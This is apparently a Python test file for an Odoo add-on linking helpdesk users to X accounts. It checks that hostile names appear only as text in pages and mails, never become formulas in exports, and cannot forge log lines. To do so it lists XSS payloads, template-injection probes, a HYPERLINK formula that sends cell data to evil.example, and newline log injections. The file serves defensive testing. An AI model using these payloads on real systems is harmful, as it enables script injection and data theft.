"""Names that are code, markup, formulas or log lines stay names."""

import io
import json
import logging
import zipfile
from dataclasses import replace
from urllib.parse import quote

from lxml import html

from odoo.tests import tagged

from .common import ANA, Fault, TwitterHttpCase, covers

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</bdi></div><iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>Ana</a>",
    "<form action=//evil.example><button>Ana",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;//evil.example>",
    "<base href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "`onload=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "\u003cscript\u003ealert(1)",
    "<<script>script>alert(1)",
    "javascript:alert(1)",
    '<t t-out="request.env.cr"/>',
    "]]><script>alert(1)</script>",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ object.env.cr }}",
    "${7 * 7}",
    "#{7 * 7}",
    "%(a)s %s %d %n",
    "{0.__class__} {partner.env}",
    "<t t-out='7 * 7'/>",
    "{% if 1 %}49{% endif %}",
)
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    "@SUM(40+9)",
    "+40+9",
    "-40+9",
    "\t=40+9",
    "\r=40+9",
    "\uff1d40+9",
)
OURS = "odoo.addons.helpdesk_twitter_identity"
FORGED = "2026-01-01 00:00:00,000 1 ERROR forged: all is lost"


@tagged("post_install", "-at_install")
class TestHostileNames(TwitterHttpCase):
    def setUp(self):
        super().setUp()
        self.addCleanup(self.x.put_account, ANA)
        self.authenticate("test_ana", "test_ana")

    def row(self):
        return self.env["twitter.oauth.transaction"].search([], limit=1)

    def call_x(self, name):
        """Let Ana's account at X have this name."""
        self.x.put_account(replace(ANA, name=name))

    def shape_of(self, tree):
        """What a page is made of, whatever its texts and values say."""
        return [
            (node.tag, sorted(node.attrib))
            for node in tree.iter()
            if isinstance(node.tag, str)
        ]

    def assertShownAsText(self, path, rename):
        """A page shows each of the names, and is made of the same parts."""
        rename("Plain")
        plain = self.shape_of(self.page(path))
        for name in (*MARKUP, *TEMPLATES):
            rename(name)
            tree = self.page(path)
            self.assertIn(name, " ".join(tree.xpath("//main//text()")), path)
            self.assertEqual(self.shape_of(tree), plain, name)

    # === Pages and mails === #

    @covers("R83", "R86", "T25")
    def test_the_pages_show_a_name_of_x_as_text(self):
        path = self.come_back(self.start_in_portal())
        profile = self.row().profile

        def rename_profile(name):
            self.row().profile = {**profile, "name": name}

        self.assertShownAsText(path, rename_profile)
        rename_profile("Plain")
        self.confirm(path)
        identity = self.env["twitter.identity"].search([])

        def rename_identity(name):
            identity.name = name

        self.assertShownAsText("/my/twitter", rename_identity)
        self.assertShownAsText(path, rename_identity)

    @covers("R83", "R86", "T25")
    def test_the_way_of_a_name_from_x_to_the_page_ends_in_text(self):
        for name in (MARKUP[0], MARKUP[2], TEMPLATES[0], TEMPLATES[5]):
            self.call_x(name)
            path = self.come_back(self.start_in_portal())
            self.assertIn(name, " ".join(self.page(path).xpath("//main//text()")))
            self.submit(self.page(path), f"{path}/decline")

    @covers("R83", "R86")
    def test_mails_show_a_name_on_record_as_text(self):
        self.bruno._twitter_note_confirmed("bruno@gmail.com")
        for name in (*MARKUP, *TEMPLATES):
            self.bruno.name = name
            wizard = self.make_link(self.make_ticket(self.bruno))
            wizard.action_send_email()
            consent = self.connect(self.bruno).consent_id
            consent._announce("connected")
            for mail in self.env["mail.mail"].search([], order="id desc", limit=2):
                tree = html.fromstring(str(mail.body_html))
                self.assertIn(f"Hello {name},", tree.text_content())
                self.assertFalse(tree.xpath("//script|//img|//iframe|//form|//@onload"))
            self.bruno.twitter_identity_ids.unlink()

    @covers("R83")
    def test_the_chatter_says_nothing_that_came_from_x(self):
        self.x.put_account(replace(ANA, username="ana_of_x", name=MARKUP[2]))
        ticket = self.make_ticket(self.ana)
        link = self.path(self.make_link(ticket).url)
        url = self.submit(self.page(link), f"{link}/connect", consent="1")
        self.confirm(self.come_back(url.headers["Location"], account="ana_of_x"))
        bodies = " ".join(str(body) for body in ticket.message_ids.mapped("body"))
        self.assertIn("connected an X account", bodies)
        self.assertNotIn("onerror", bodies)
        self.assertNotIn("ana_of_x", bodies)

    # === Exports === #

    @covers("R84", "T26")
    def test_no_exported_name_is_a_formula(self):
        for name in FORMULAS:
            self.authenticate("test_ana", "test_ana")
            self.call_x(name)
            self.confirm(self.come_back(self.start_in_portal()))
            self.authenticate("admin", "admin")
            rows = self.export("csv").content.decode().splitlines()
            self.assertEqual(len(rows), 2)
            for cell in rows[1].split('","'):
                self.assertNotIn(cell.strip('"')[:1], tuple("=+-@\t\r"), name)
            with zipfile.ZipFile(io.BytesIO(self.export("xlsx").content)) as book:
                sheet = book.read("xl/worksheets/sheet1.xml").decode()
                texts = book.read("xl/sharedStrings.xml").decode()
            self.assertNotIn("<f>", sheet, name)
            self.assertIn("40+9" if "40" in name else "HYPERLINK", texts)

    def export(self, kind):
        """All identities, as an administrator exports them."""
        fields = ("name", "username", "verified_type", "email")
        data = {
            "model": "twitter.identity",
            "fields": [{"name": name, "label": name} for name in fields],
            "ids": False,
            "domain": [],
            "groupby": [],
            "import_compat": False,
        }
        form = {"data": json.dumps(data), "csrf_token": self.token_of(self.page("/my"))}
        answer = self.url_open(f"/web/export/{kind}", data=form)
        self.assertEqual(answer.status_code, 200)
        return answer

    # === Logs === #

    @covers("R106")
    def test_nothing_that_arrives_begins_a_line_in_the_log(self):
        with self.assertLogs(OURS, logging.INFO) as logged:
            self.call_x(f"Ana\n{FORGED}")
            path = self.come_back(self.start_in_portal())
            self.submit(self.page(path), f"{path}/decline")
            body = {"error": f"bad\n{FORGED}", "error_description": f"\r\n{FORGED}"}
            self.x.faults.add("POST /2/oauth2/token", Fault(status=400, body=body))
            self.come_back(self.start_in_portal())
            callback = self.path(
                self.x.answer(self.start_in_portal(), decision="cancel")
            )
            forged = quote(f"x\n{FORGED}")
            self.get(callback.replace("access_denied", forged))
        for record in logged.records:
            line = logging.Formatter().format(record)
            self.assertNotIn("\n", line)
            self.assertNotIn("forged", line)
